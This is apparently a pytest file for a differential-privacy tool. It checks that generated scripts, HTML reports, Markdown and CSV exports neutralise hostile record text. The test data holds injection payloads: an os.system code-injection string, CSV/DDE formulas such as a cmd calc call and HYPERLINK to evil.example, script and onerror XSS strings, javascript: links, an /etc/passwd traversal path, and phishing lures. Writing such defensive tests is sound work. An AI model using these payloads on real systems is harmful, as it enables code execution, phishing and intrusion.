"""Files made of a hostile record contain no code, link or formula of others."""

import ast
import contextlib
import csv
import io
import re
import sys
from html.parser import HTMLParser
from types import SimpleNamespace

import pandas as pd
import pytest
from markdown_it import MarkdownIt

from dpmf_core.runs.record import summarise
from dpmf_core.runs.reports import report, script
from dpmf_core.runs.spreadsheet_text import harmless, harmless_row
from pages.kit.base import safe_text
from pages.kit.base.safe_text import to_csv
from pages.runs import side_by_side
from tests.support.records import run_of

HOSTILE = (
    '"""\nimport os; os.system("touch /tmp/dpmf-was-here")\n"""',
    "'); raise SystemExit('ran')  #", 'x;=HYPERLINK("http://evil.example")',
    "=1+cmd|' /C calc'!A0", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "</td></table><a href='javascript:alert(1)'>x</a>", "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)", "\u202e\u2028\x00", "{0.__class__}", "../../etc/passwd",
    "\\N{BULLET}\\", "%s%n",
)  # fmt: skip


def hostile(text, epsilon):
    """A run whose record has this text wherever text or names may be."""
    release = {
        "mechanism": "Gaussian", "statistic": text, "sensitivity": 1.0, "noise_multiplier": 2.0,
        "count": 1, "replace_one_factor": 2.0,
    }  # fmt: skip
    budget = {"epsilon": epsilon, "delta": 1e-5}
    return run_of(
        **dict.fromkeys(("title", "split", "noise", "key", "created", "rule"), text),
        spec={
            "data": {"id": text},
            "algorithm": "dpals",
            "budget": budget,
        },
        versions={text: text},
        guarantee={
            "status": "PROVEN",
            "words": text,
            "taken_as_public": [text],
        },
        parameters={"rank": 2, text: text},
        metrics={"rmse": 0.9, text: 1.0},
        curves=[{"step": 1.0, "test_rmse": 0.9}],
        seconds={"fit": 0.1},
        epsilon={"exact": epsilon},
        delta=1e-5,
        ledger=[release],
    )


@pytest.fixture(scope="module", params=HOSTILE, ids=range(len(HOSTILE)))
def attack(request):
    """A hostile text, and the files that are made of two records which hold it everywhere."""
    runs = [hostile(request.param, epsilon) for epsilon in (1.0, 2.0)]
    more = {
        "created": "2026-11-22",
        "note": request.param,
        "tags": request.param,
        "owner": "",
    }
    rows = [{**summarise(one.record), **more} for one in runs]
    return request.param, {
        "html": report(runs, request.param),
        "script": "\n\n".join(script(one.record) for one in runs),
        "csv": safe_text.to_csv(side_by_side.run_table(rows, {})),
    }


def test_the_script_holds_literals_alone(attack, monkeypatch):
    text, files = attack
    tree = ast.parse(files["script"])
    for node in tree.body:
        assert isinstance(node, ast.Expr | ast.Import | ast.Assign), ast.dump(node)
    ids = []
    record = SimpleNamespace(metrics={}, loss="")

    def fit(data, *_, **__):
        ids.append(data)
        return SimpleNamespace(record=record)

    monkeypatch.setitem(sys.modules, "dpmf", SimpleNamespace(fit=fit))
    calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
    assert {ast.unparse(call.func) for call in calls} == {"dpmf.fit", "print"}
    with contextlib.redirect_stdout(io.StringIO()):
        exec(compile(tree, "script", "exec"), {})
    assert ids == [text, text]


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def test_the_report_has_no_tag_or_attribute_of_others(attack):
    reader = Tags()
    reader.feed(attack[1]["html"])
    tags = {
        "html", "meta", "title", "style", "body", "h1", "h2", "table", "tr", "th", "td", "p",
        "b", "svg", "polyline", "text",
    }  # fmt: skip
    assert {tag for tag, _ in reader.tags} <= tags
    names = {name for _, attributes in reader.tags for name in attributes}
    own = "lang charset name content viewbox role aria-label fill stroke stroke-width points"
    assert names <= {
        *own.split(),
        "stroke-dasharray",
        "stroke-linecap",
        "x",
        "y",
        "font-size",
        "text-anchor",
    }


ADDRESS = re.compile(r"https?://|www\.|\w@\w")
LURES = (
    "Log in again at https://evil.example/login",
    "see www.evil.example now",
    "write to me@evil.example",
    "`x`http://evil.example",
    "a ` http://evil.example/`b",
)


@pytest.mark.parametrize(
    "text", (*HOSTILE, *LURES), ids=range(len(HOSTILE) + len(LURES))
)
@pytest.mark.parametrize("render", [safe_text.escape, safe_text.escape_letters])
def test_markdown_has_no_link_image_or_tag_of_others(text, render):
    """What is said on a page about other people's text."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(
        f"It says {render(text)} here."
    )
    children = [child for token in tokens for child in (token, *(token.children or []))]
    # a screen links what looks like an address
    assert not any(
        ADDRESS.search(child.content)
        for child in children
        if child.type in ("text", "text_special")
    )
    plain = (
        "paragraph_open paragraph_close inline text text_special softbreak hardbreak"
    )
    assert {child.type for child in children} <= {*plain.split(), "code_inline"}


FORMULA = re.compile(r"[\s\"\ufeff\u200b]*[=+\-@＝＋－＠](?=.*[^\d.,%\s;:|eE+\"-])")


def cells(text, separator):
    return [
        cell
        for row in csv.reader(io.StringIO(text), delimiter=separator)
        for cell in row
    ]


@pytest.mark.parametrize(
    "before",
    [
        "",
        "x;",
        "x\t",
        "x|",
        "x; ",
        'x;"',
        "x\n",
        "x\r\n",
        "x,",
        "\ufeff",
        " ",
        "x；",
        "1;",
        "-1;",
    ],
)
@pytest.mark.parametrize(
    "lure",
    ['=HYPERLINK("http://evil.example/?"&A1;"more")', "=1+cmd|' /C calc'!A0", "+A1", "-2+A1",
     "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
)  # fmt: skip
def test_a_formula_is_defused_wherever_it_stands(before, lure):
    text = to_csv(
        pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]})
    )
    for separator in ",;\t|":
        assert not [cell for cell in cells(text, separator) if FORMULA.match(cell)], (
            text
        )


@pytest.mark.parametrize(
    "text",
    ["Live and Let Die (1973)", "Rocky II - the second", "low-rank", "a, b; c", "-", "--", "-2",
     "ε = 2.00 (δ = 1e-05, per user, add/remove, exact)", "+3.5 %", "-1e-05", "-1,5", "1; -2; -3",
     "from -5 to +3", "me@example.org", "C++ & C", "a -> b", "rank=4, epsilon=0.5", "it's", "",
     "50% - 60%", "2026-11-22 10:00", "Grüße, 😀"],
)  # fmt: skip
def test_ordinary_texts_stay_as_they_are(text):
    assert harmless(text) == text


def test_numbers_stay_and_formulas_of_a_row_are_defused_in_names_and_cells():
    row = {
        "=a": "x;=b",
        "n": -1.5,
        "none": None,
        "flag": True,
    }
    assert harmless_row(row) == {
        "'=a": "x;'=b",
        "n": -1.5,
        "none": None,
        "flag": True,
    }
    assert harmless(harmless("x;=b")) == harmless("x;=b")
